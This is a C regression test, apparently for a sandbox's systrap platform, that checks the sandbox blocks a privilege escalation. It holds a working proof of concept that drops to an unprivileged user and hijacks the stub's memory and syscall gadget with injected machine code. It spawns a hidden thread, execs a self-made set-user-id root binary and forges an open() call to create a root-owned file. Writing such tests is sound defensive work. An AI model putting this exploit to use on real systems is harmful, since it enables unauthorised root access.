/*
 * A user takes its stub over, leaves a thread behind that the kernel does not know, above the guest's range where execve
 * does not reach, and starts a set-user-id program of root's: the thread then speaks in that program's name.
 *
 * platforms: systrap
 * expect: exit 0
 * prints: ^the program ran as 0, the file of root's is not there\n$
 * seconds: 30
 */
#include <sys/prctl.h>
#include "stub.h"

#define PROGRAM "/tmp/hostile-setuid"
#define PROOF "/tmp/hostile-owned-by-root"
#define THREAD_FLAGS (0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000)
/* In the private areas of slots that nobody uses. */
#define CODE (PRIVATE_BASE + 2000 * PRIVATE_SIZE)
#define STACK (CODE + 3 * PRIVATE_SIZE)

/* Runs on without an address space of its own: no call, no data outside of its arguments. */
__attribute__((used, noinline, noclone, section("hidden_code"), optimize("O1", "no-tree-loop-distribute-patterns"))) static void hidden(void) {
  volatile struct slot *slot = (volatile struct slot *)MAILBOX_BASE;
  volatile char *path = (volatile char *)(MAILBOX_BASE + IN_OFFSET);
  for (;;) {
    /* Whenever the first thread has been let go: a call in its name. */
    if (slot->state != STATE_RUNNING) continue;
    const char *from = (const char *)(CODE + 4096);
    for (int i = 0; i < 64; i++) path[i] = from[i];
    slot->prefetch[0].addr = 0x10000;
    slot->prefetch[0].off = IN_OFFSET;
    slot->prefetch[0].len = sizeof PROOF;
    slot->nprefetch = 1;
    slot->regs[15] = SYS_open;
    slot->regs[14] = 0x10000;
    slot->regs[13] = O_CREAT | O_WRONLY;
    slot->regs[12] = 0600;
    slot->event = EVENT_SYSCALL;
    slot->state = STATE_EVENT;
    for (int i = 0; i < 2000; i++) __asm__ volatile("pause");
  }
}
extern char __start_hidden_code[], __stop_hidden_code[];

static void victim(void) {
  /* The set-user-id program: nothing but a second of its life. */
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  do {
    for (volatile int i = 0; i < 20000; i++)
      ;
    syscall(SYS_getppid);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec - begin.tv_sec < 2);
  _exit(40 + (int)geteuid());
}

int main(int argc, char **argv) {
  if (IS("victim")) victim();
  unlink(PROOF);
  char command[200];
  snprintf(command, sizeof command, "cp /proc/%d/exe %s && chmod 4755 %s", getpid(), PROGRAM, PROGRAM);
  if (system(command) != 0) cannot("a set-user-id program");
  pid_t attacker = fork();
  if (attacker == 0) {
    if (setgid(1000) < 0 || setuid(1000) < 0) _exit(98);
    stub_open();
    if (stub_call(SYS_mprotect, CODE, 4 * PRIVATE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0) != 0) _exit(97);
    memcpy((void *)CODE, __start_hidden_code, (size_t)(__stop_hidden_code - __start_hidden_code));
    memcpy((void *)(CODE + 4096), PROOF, sizeof PROOF);
    /* clone comes back twice behind `syscall`: the new thread runs into ud2, its fault is nobody's; so it gets code there. */
    stub_make_writable();
    uint8_t *after = (uint8_t *)stub_gadget + 2;
    /* test %eax,%eax; jnz +12; mov $CODE,%rax; jmp *%rax; ud2 */
    static const uint8_t jump[] = {0x85, 0xc0, 0x75, 0x0c, 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0, 0x0f, 0x0b};
    memcpy(after, jump, sizeof jump);
    uint64_t code = CODE;
    memcpy(after + 6, &code, 8);
    if (stub_call(SYS_clone, THREAD_FLAGS, STACK, 0, 0, 0, 0) <= 0) _exit(96);
    execl(PROGRAM, PROGRAM, "victim", (char *)NULL);
    _exit(95);
  }
  int status;
  waitpid(attacker, &status, 0);
  struct stat st;
  int there = stat(PROOF, &st) == 0 && st.st_uid == 0;
  unlink(PROGRAM);
  unlink(PROOF);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 40)
    printf("the program ran as 0, the file of root's is %s\n", there ? "there" : "not there");
  else
    printf("ended with status %x, the file of root's is %s\n", (unsigned)status, there ? "there" : "not there");
  return 0;
}
